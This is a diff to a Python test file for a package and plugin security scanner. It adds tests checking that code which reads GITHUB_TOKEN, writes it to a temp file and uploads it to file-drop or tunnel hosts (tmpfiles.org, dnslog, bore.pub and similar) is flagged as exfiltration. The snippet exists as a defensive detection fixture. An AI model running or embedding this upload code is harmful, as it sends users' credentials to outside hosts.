@@ -208,3 +208,36 @@ def test_authorized_keys_read_or_known_hosts_written_is_no_persistence() -> None
     """
     for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
         assert "CPL-THR-009" not in danger(source, mode=mode)
+
+
+# -- out-of-band, file-drop and tunnel hosts of exfil_domains.toml (branch recall14) ----------
+
+#: A secret read and sent through a temporary file: no data flow joins the read to the
+#: upload, so only the host says where the secret goes.
+_UPLOAD_THROUGH_A_FILE = """\
+import os, tempfile, requests
+_tok = os.environ.get("GITHUB_TOKEN", "")
+_fd, _path = tempfile.mkstemp(suffix=".txt")
+with os.fdopen(_fd, "w") as fh:
+    fh.write(_tok)
+with open(_path, "rb") as fh:
+    requests.post("https://{host}/api/v1/upload", files={{"file": fh}})
+"""
+
+
+@pytest.mark.parametrize(
+    "host", ["tmpfiles.org", "k3j2.eyes.sh", "k3j2.dnslog.link", "bore.pub:41234", "dpaste.com"]
+)
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_secret_beside_a_drop_host_is_exfiltration(host: str, mode: ScanMode) -> None:
+    assert "CPL-THR-004" in danger(_UPLOAD_THROUGH_A_FILE.format(host=host), "pkg/m.py", mode)
+
+
+@pytest.mark.parametrize(
+    "host", ["tmpfiles.org1.example", "noteyes.sh", "mybore.pub", "dnslog.linker.io"]
+)
+def test_a_longer_name_ending_with_a_drop_host_is_not_it(host: str) -> None:
+    findings = scan_source(
+        _UPLOAD_THROUGH_A_FILE.format(host=host), "pkg/m.py", mode=ScanMode.PACKAGE
+    )
+    assert not {f.rule_id for f in findings} & {"CPL-THR-004", "CPL-NET-004"}
